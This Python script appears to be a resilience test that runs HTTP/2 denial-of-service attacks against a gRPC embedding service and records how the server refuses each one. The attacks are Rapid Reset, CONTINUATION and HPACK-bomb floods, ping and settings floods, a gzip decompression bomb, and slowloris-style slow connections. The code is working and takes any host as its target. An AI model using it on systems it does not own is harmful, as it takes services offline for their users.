#!/usr/bin/env python3
"""What hostile clients do: each attack goes on for some seconds, or until the server has ended it. None needs a token.

  attacks.py NAME HOST:PORT SECONDS OPTIONS     prints what was sent, how the server refused it, and when (by the monotonic clock) it
                                                began and ended, as JSON

OPTIONS: a JSON object with arguments of the attack in place of their defaults, `count` for one.
"""

import contextlib
import itertools
import json
import resource
import sys
import time
import zlib

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, Connection, call, connect,
                   field, frame, integer)

EMBED = "/midlayer.v1.EmbeddingService/Embed"
MIB = 1 << 20
BATCH = 100  # frames between two looks at the clock
LARGEST_FRAME = 16384  # that every server takes


def flood(target, seconds, batches, unit, before=b"", size=1, acknowledges=True):
    """Sends `before`, and then what batches() yields, of which each has `size` of what `unit` names; again over another connection where the server
    ends one, or the calls of one are refused. acknowledges: the server's settings."""
    end, sent, connections, refused = time.monotonic() + seconds, 0, 0, set()
    while time.monotonic() < end:
        with Connection(target, acknowledges) as connection:
            connections += 1
            taken = connection.send(before)
            for batch in batches():
                if not taken or connection.refusals or time.monotonic() > end:
                    break
                taken = connection.send(batch)
                sent += size * taken
            refused.update(connection.ending())
    return {"sent": sent, "unit": f"{unit} over {connections:,} connection{'s' if connections > 1 else ''}", "refused": sorted(refused)}


def forever(data):
    return lambda: itertools.repeat(data)


def client_streams():
    """The numbers that a client gives its streams."""
    yield from range(1, 1 << 31, 2)


def rapid_reset(target, seconds):
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    headers = call(EMBED)
    cancel = bytes([0, 0, 0, 8])
    return flood(target, seconds, lambda: (frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, cancel) for stream in client_streams()), "calls")


def open_streams(target, seconds, acknowledges=True):
    """Calls whose message never comes."""
    headers = call(EMBED)
    return flood(target, seconds, lambda: (frame(HEADERS, END_HEADERS, stream, headers) for stream in client_streams()), "calls", acknowledges=acknowledges)


def unlimited_streams(target, seconds):
    """Calls whose message never comes, by a client that never acknowledges the server's settings, its limit of calls among them."""
    return open_streams(target, seconds, acknowledges=False)


def continuation(target, seconds):
    """A header block without an end, of fields that are small enough each (CVE-2023-33953)."""
    fields = b"".join(field(f"x-{number}", "v" * 200) for number in range(30))
    return flood(target, seconds, forever(frame(CONTINUATION, 0, 1, fields)), "frames", frame(HEADERS, 0, 1, call(EMBED)))


def header_string(target, seconds):
    """One header field of a gibibyte, in pieces (CVE-2023-33953)."""
    begin = call(EMBED) + b"\x00" + integer(1, 7) + b"x" + integer(1 << 30, 7)
    return flood(target, seconds, forever(frame(CONTINUATION, 0, 1, b"v" * LARGEST_FRAME)), "frames", frame(HEADERS, 0, 1, begin))


def header_table(target, seconds):
    """Header blocks of single bytes, each of which stands for 3.9 KB that the server was told to keep (an HPACK bomb)."""
    kept = frame(HEADERS, END_HEADERS, 1, call(EMBED) + field("x-bomb", "v" * 3900, kept=True))
    bomb = call(EMBED) + b"\xbe" * 10_000
    return flood(target, seconds, lambda: (frame(HEADERS, END_HEADERS, stream + 2, bomb) for stream in client_streams()), "calls", kept)


def pings(target, seconds):
    """Pings, without a pause."""
    return flood(target, seconds, forever(frame(PING, payload=b"midlayer") * BATCH), "pings", size=BATCH)


def settings(target, seconds):
    """Settings, each of which is to be answered."""
    return flood(target, seconds, forever(frame(SETTINGS, payload=b"\0\4\0\1\0\0") * BATCH), "frames", size=BATCH)


def empty_data(target, seconds):
    """Frames without a byte, within a call."""
    return flood(target, seconds, forever(frame(DATA, 0, 1) * BATCH), "frames", frame(HEADERS, END_HEADERS, 1, call(EMBED)), BATCH)


def compressed(target, seconds, size=256 * MIB):
    """Messages of a quarter of a MiB that are a thousand times as much once they are inflated."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    message = deflate.compress(b"\x0a" + varint(size)) + b"".join(deflate.compress(b"a" * MIB) for _ in range(size // MIB)) + deflate.flush()
    message = b"\1" + len(message).to_bytes(4, "big") + message
    pieces = [message[at:at + LARGEST_FRAME] for at in range(0, len(message), LARGEST_FRAME)]
    end, sent, refused = time.monotonic() + seconds, 0, []
    while time.monotonic() < end:
        with Connection(target) as connection:
            connection.receive(0.1)  # the window is open once the settings are taken
            sent += connection.send(frame(HEADERS, END_HEADERS, 1, call(EMBED, ("grpc-encoding", "gzip"))),
                                    *(frame(DATA, 0, 1, piece) for piece in pieces), frame(DATA, END_STREAM, 1))
            refused = connection.ending()
    return {"sent": sent, "unit": "messages", "refused": refused}


def varint(value):
    """As protobuf writes a number."""
    coded = bytearray()
    while value > 127:
        coded.append(value & 127 | 128)
        value >>= 7
    return bytes([*coded, value])


def many(target, seconds, count, greeting, drip=b""):
    """`count` connections that send `greeting`, and then `drip` byte by byte, one round a second. How many were ended by the server."""
    end = time.monotonic() + seconds
    with contextlib.ExitStack() as stack:
        connections, ended = [], set()
        for _ in range(count):
            with contextlib.suppress(ConnectionError):
                connection = stack.enter_context(connect(target))
                connections.append(connection)
                connection.sendall(greeting)
                connection.setblocking(False)
        for number in range(int(seconds)):
            time.sleep(max(0, min(1, end - time.monotonic())))
            for connection in connections:
                with contextlib.suppress(BlockingIOError):
                    try:
                        if connection not in ended and drip:
                            connection.send(drip[number % len(drip):][:1])
                        if not connection.recv(4096):
                            ended.add(connection)
                    except ConnectionError:
                        ended.add(connection)
        refused = count - len(connections) + len(ended)
        return {"sent": count, "unit": "connections", "refused": [f"{refused:,} ended"] if refused else []}


def idle(target, seconds, count=10_000):
    """Connections that greet, and then say nothing."""
    return many(target, seconds, count, PREFACE + frame(SETTINGS))


def silent(target, seconds, count=2000):
    """Connections that say nothing at all."""
    return many(target, seconds, count, b"")


def slow_preface(target, seconds, count=1000):
    """A greeting byte by byte."""
    return many(target, seconds, count, b"", PREFACE + frame(SETTINGS))


def slow_headers(target, seconds, count=1000):
    """The headers of a call byte by byte."""
    return many(target, seconds, count, PREFACE + frame(SETTINGS), frame(HEADERS, END_HEADERS, 1, call(EMBED)))


def slow_handshake(target, seconds, count=1000):
    """The first record of TLS byte by byte."""
    return many(target, seconds, count, bytes.fromhex("1603010200"), b"\1" * 512)


def slow_http(target, seconds, count=200):
    """Requests of HTTP/1.1 to the port of metrics and probes, byte by byte."""
    return many(target, seconds, count, b"GET /metrics HTTP/1.1\r\n", b"X: " + b"a" * 1000)


ATTACKS = {attack.__name__: attack for attack in (
    idle, silent, slow_preface, slow_headers, slow_handshake, slow_http, pings, settings, empty_data, rapid_reset, open_streams, unlimited_streams,
    continuation, header_string, header_table, compressed)}


def main():
    name, target, seconds, options = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    began = time.monotonic()
    result = ATTACKS[name](target, float(seconds), **json.loads(options))
    print(json.dumps({**result, "began": began, "ended": time.monotonic()}))


if __name__ == "__main__":
    main()
